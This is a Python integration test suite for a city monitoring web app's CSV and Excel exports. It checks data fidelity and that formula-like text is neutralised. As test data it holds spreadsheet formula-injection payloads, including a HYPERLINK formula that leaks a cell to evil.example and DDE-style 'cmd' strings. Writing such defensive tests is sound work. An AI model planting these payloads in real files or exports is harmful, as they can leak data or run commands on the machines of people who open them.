"""Every export the pages offer, over HTTP against the whole web app and a seeded real Redis: sign history,
district comparison, module and category lists and the duty log, each as CSV and as Excel. Each file holds what
Redis holds, negative values stay numbers, and a name or a note written like a formula arrives as inert text
(CSV: a leading quote; Excel: a text cell, never a formula)."""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Callable, Sequence
from dataclasses import replace
from datetime import datetime

import pytest
import redis
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from openpyxl.cell import Cell, MergedCell
from werkzeug.test import TestResponse

from alerts import store
from feeds.contract import Reading
from feeds.sink import Batch, RedisSink
from geo.admin import DISTRICTS
from layouts.nav import export_href
from signs.catalogue import catalogue
from signs.citytime import CITY_TZ
from signs.drill import list_signs
from signs.export import beijing_text
from signs.recent import read_latest_many
from signs.store import read_history
from signs.urlstate import DistrictView, ListView, Sort
from tests.alerting import AlertRaiser, red_sign
from tests.web import DISPATCH_PATH, ORIGIN, callback_request, create_accounts, signed_in

pytestmark = pytest.mark.integration

TEMPERATURE = "XY.S.M13.S44"  # 气温, a core sign of module M13 (category S) with a value per district
NANZHANG = "420624"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
# Winter in Xiangyang: negative readings that must stay numbers in every file.
VALUES = [4.75, -0.25, 0.1 + 0.2, -12.0, 1e-7, -3.5]


def _seed(client: redis.Redis, now: float) -> None:
    """Through the feed workers' own write path: the city's temperature history over the last hour, and a latest
    value for every district's (south warmer than north, two below zero)."""
    readings = [Reading(TEMPERATURE, value, now - 3000 + i * 500) for i, value in enumerate(VALUES)]
    readings += [
        Reading(f"{TEMPERATURE}.dist:{adcode}", -2.0 + i * 0.5, now - 60)
        for i, adcode in enumerate(DISTRICTS)
        if f"{TEMPERATURE}.dist:{adcode}" in catalogue().signs
    ]
    sink = RedisSink(client, retention_days=8, deadletter_keep=10, deadletter_payload_bytes=512, readings_keep_s=7200)
    sink.write(Batch(readings=readings, receive_ts=now, messages=len(readings)))


@pytest.fixture
def officer(web_server: Flask, redis_client: redis.Redis) -> FlaskClient:
    _seed(redis_client, time.time())
    create_accounts(redis_client)
    return signed_in(web_server.test_client(), "duty1")


def _csv(response: TestResponse) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == "text/csv" and response.data.startswith("\ufeff".encode())
    assert "attachment" in response.headers["Content-Disposition"]
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def _xlsx(response: TestResponse) -> list[tuple[Cell | MergedCell, ...]]:
    """The data sheet's cells; no cell of any sheet is a formula."""
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype is not None and response.mimetype.endswith("spreadsheetml.sheet")
    book = load_workbook(io.BytesIO(response.data))
    assert all(c.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for c in row)
    return list(book.worksheets[0].iter_rows())


def _number_text(value: float | None) -> str:
    return "" if value is None else repr(value)


def _in_excel(value: float) -> float:
    """What an .xlsx holds of a double: openpyxl writes 16 significant digits."""
    return float(f"{value:.16g}")


def test_the_sign_export_holds_every_reading_in_redis(officer: FlaskClient, redis_client: redis.Redis) -> None:
    compared = f"{TEMPERATURE}.dist:{NANZHANG}"
    url = f"/export/sign/{TEMPERATURE}.{{fmt}}?range=1h&vs={compared}"
    in_redis = read_history(redis_client, TEMPERATURE, time.time() - 3600, time.time())
    assert in_redis["value"].tolist() == VALUES
    expected = [
        [TEMPERATURE, "气温", beijing_text(ts), repr(value), "°C"]
        for ts, value in zip(in_redis["ts"].tolist(), in_redis["value"].tolist(), strict=True)
    ]
    compared_value = read_latest_many(redis_client, [compared])[compared].value

    rows = _csv(officer.get(url.format(fmt="csv")))
    assert rows[0] == ["指标编号", "指标名称", "时间(北京时间)", "数值", "单位", "级别"]
    assert [row[:5] for row in rows[1:-1]] == expected
    assert rows[-1][0] == compared and rows[-1][3] == repr(compared_value)

    cells = _xlsx(officer.get(url.format(fmt="xlsx")))
    assert [(c[3].value, c[3].data_type) for c in cells[1:-1]] == [(_in_excel(v), "n") for v in VALUES]
    first = datetime.fromtimestamp(round(in_redis["ts"][0]), CITY_TZ).replace(tzinfo=None)
    assert cells[1][2].value == first and cells[-1][3].value == compared_value


def test_the_district_export_holds_the_districts_values_in_redis(
    officer: FlaskClient, redis_client: redis.Redis
) -> None:
    """It used to fail with a 500 on every request."""
    signs = catalogue().signs
    by_district = {a: f"{TEMPERATURE}.dist:{a}" for a in DISTRICTS if f"{TEMPERATURE}.dist:{a}" in signs}
    latest = read_latest_many(redis_client, [TEMPERATURE, *by_district.values()])
    for fmt in ("csv", "xlsx"):
        response = officer.get(f"/export/district/{NANZHANG}.{fmt}?sort=value:asc&lang=en")
        header: Sequence[object]
        body: Sequence[Sequence[object]]
        value_of: Callable[[float | None], object]
        if fmt == "csv":
            rows = _csv(response)
            header, body = rows[0], rows[1:]
            value_of = _number_text
        else:
            cells = _xlsx(response)
            header, body = [c.value for c in cells[0]], [[c.value for c in row] for row in cells[1:]]
            value_of = lambda v: v  # noqa: E731 - numbers read back as numbers
        assert header[:7] == [
            "Sign id",
            "Name",
            "Unit",
            "Level",
            "Nanzhang County",
            "City",
            "District rank (1 = worst)",
        ]
        assert len(body) == 55
        [row] = [r for r in body if r[0] == TEMPERATURE]
        assert row[4] == value_of(latest[by_district[NANZHANG]].value)
        assert row[5] == value_of(latest[TEMPERATURE].value)
        assert len(header) == 7 + len(DISTRICTS)  # then one column per district, in DISTRICTS order
        for column, adcode in enumerate(DISTRICTS, start=7):
            held = latest.get(by_district.get(adcode, ""))
            assert row[column] == value_of(held.value if held else None)
        # Sorted as the page sorts it: by the district's value, the only one with a value first.
        assert body[0][0] == TEMPERATURE


@pytest.mark.parametrize(("kind", "code"), [("module", "M13"), ("category", "S")])
def test_the_list_exports_hold_every_listed_sign_as_in_redis(
    officer: FlaskClient, redis_client: redis.Redis, kind: str, code: str
) -> None:
    listed = [s.id for s in list_signs(catalogue(), kind, code)]
    latest = read_latest_many(redis_client, listed)
    assert len(latest) >= 10  # the seeded temperatures
    rows = _csv(officer.get(f"/export/{kind}/{code}.csv"))
    assert sorted(row[0] for row in rows[1:]) == sorted(listed)
    assert {row[0]: row[4] for row in rows[1:]} == {
        i: _number_text(latest[i].value if i in latest else None) for i in listed
    }
    cells = _xlsx(officer.get(f"/export/{kind}/{code}.xlsx"))
    values = {row[0].value: row[4] for row in cells[1:]}
    assert {i: (c.value, c.data_type) for i, c in values.items() if i in latest} == {
        i: (v.value, "n") for i, v in latest.items()
    }


def test_the_duty_log_exports_hold_the_audit_and_notes_written_as_formulas_stay_text(
    officer: FlaskClient, redis_client: redis.Redis, redis_service
) -> None:
    alert = AlertRaiser(redis_service.url, redis_client).raise_red(red_sign(NANZHANG))
    notes = {"acknowledged": HYPERLINK, "resolved": "+cmd|' /C calc'!A0", "silence-added": "@SUM(1+1)*cmd"}
    ack = officer.post(f"/api/v1/alerts/{alert.id}/acknowledge", json={"note": notes["acknowledged"]}, headers=ORIGIN)
    assert ack.status_code == 200
    body = {"scope": "sign", "target": alert.sign_id, "minutes": 30, "reason": notes["silence-added"]}
    assert officer.post("/api/v1/silences", json=body, headers=ORIGIN).status_code == 201
    resolved = officer.post(f"/api/v1/alerts/{alert.id}/resolve", json={"note": notes["resolved"]}, headers=ORIGIN)
    assert resolved.status_code == 200
    audit = [(t.event.value, t.by, t.note) for t in store.read_audit(redis_client)]
    assert {event: note for event, _, note in audit if event in notes} == notes

    rows = _csv(officer.get("/api/v1/duty-log?format=csv&lang=en"))
    story = [row for row in rows[1:] if row[1] == "alert"]
    assert len(story) == len(audit)
    written = {row[2]: (row[3], row[9]) for row in story}
    assert written["acknowledged"] == ("duty1", "'" + HYPERLINK)
    assert written["resolved"] == ("duty1", "'" + notes["resolved"])
    assert written["silence set"] == ("duty1", "'" + notes["silence-added"])

    cells = _xlsx(officer.get("/api/v1/duty-log?format=xlsx&lang=en"))
    typed = {row[2].value: (row[9].value, row[9].data_type) for row in cells[1:] if row[1].value == "alert"}
    assert typed["acknowledged"] == ("'" + HYPERLINK, "s")
    assert typed["silence set"] == ("'" + notes["silence-added"], "s")


def test_a_sign_name_written_as_a_formula_is_inert_in_every_export_and_negatives_stay_numbers(
    officer: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A catalogue edited by a department is text from outside too: the name of the city's temperature (a core
    sign, so in the sign, district, module and category exports) starts like a formula."""
    signs = catalogue().signs
    monkeypatch.setitem(signs, TEMPERATURE, replace(signs[TEMPERATURE], name_zh=HYPERLINK))
    exports = [
        f"/export/sign/{TEMPERATURE}.{{fmt}}?range=1h",
        f"/export/district/{NANZHANG}.{{fmt}}",
        "/export/module/M13.{fmt}",
        "/export/category/S.{fmt}",
    ]
    for url in exports:
        rows = [row for row in _csv(officer.get(url.format(fmt="csv"))) if row[0] == TEMPERATURE]
        assert rows and all(row[1] == "'" + HYPERLINK for row in rows), url
        numbers = [cell for row in rows for cell in row[2:] if cell.startswith("-")]
        assert numbers and all(float(cell) < 0 for cell in numbers), url  # "-3.5", never "'-3.5"
        cells = [row for row in _xlsx(officer.get(url.format(fmt="xlsx"))) if row[0].value == TEMPERATURE]
        assert cells and all((row[1].value, row[1].data_type) == ("'" + HYPERLINK, "s") for row in cells), url
        negatives = [c for row in cells for c in row[2:] if isinstance(c.value, float) and c.value < 0]
        assert negatives and all(c.data_type == "n" for c in negatives), url


# What each grid page shows, through its own Dash callback: (callback output key, the grid's id, the page's store).
GRID_PAGES = {
    "district": ("..district-grid.rowData", "district-grid", "district-state.data"),
    "list": ("..list-grid.rowData", "list-grid", "list-state.data"),
}
# The columns of each export that hold the grid's fields (signs.export.comparison_table and list_table).
EXPORT_COLUMNS = {"district": {"value": 4, "city": 5}, "list": {"value": 4}}


@pytest.mark.parametrize(
    "view",
    [
        DistrictView(NANZHANG, Sort("value", "asc"), lang="en"),
        DistrictView(NANZHANG),
        ListView("module", "M13", sort=Sort("value", "desc")),
        ListView("module", "M13", district=NANZHANG, lang="en"),
        ListView("category", "S", sort=Sort("value", "asc")),
    ],
    ids=lambda view: view.href(),
)
def test_each_export_holds_the_rows_its_page_shows_in_the_pages_order(
    officer: FlaskClient, view: DistrictView | ListView
) -> None:
    """The page's grid (its callback over HTTP) and the page's export links (CSV and Excel) hold the same signs with
    the same values, and the export lists them in the order the grid's sort puts them (empty cells last)."""
    page = "district" if isinstance(view, DistrictView) else "list"
    key, grid, state = GRID_PAGES[page]
    answer = officer.post(DISPATCH_PATH, json=callback_request(key, {state: view.href()}), headers=ORIGIN)
    assert answer.status_code == 200, answer.get_data(as_text=True)[:300]
    shown = answer.get_json()["response"][grid]["rowData"]
    assert shown
    columns = EXPORT_COLUMNS[page]
    expected = {row["id"]: tuple(row[field] for field in columns) for row in shown}
    for fmt in ("csv", "xlsx"):
        response = officer.get(export_href(view.href(), fmt))
        body: list[list[object]]
        if fmt == "csv":
            body = [[None if cell == "" else float(cell) if i in columns.values() else cell for i, cell in enumerate(r)]
                    for r in _csv(response)[1:]]  # fmt: skip
        else:
            body = [[c.value for c in row] for row in _xlsx(response)[1:]]
        exported = {row[0]: tuple(row[i] for i in columns.values()) for row in body}
        assert exported == expected, fmt
        if view.sort is not None:
            values = [row[columns["value"]] for row in body]
            present = [float(str(v)) for v in values if v is not None]
            assert values == [*present, *[None] * (len(values) - len(present))], fmt
            assert present == sorted(present, reverse=view.sort.direction == "desc"), fmt
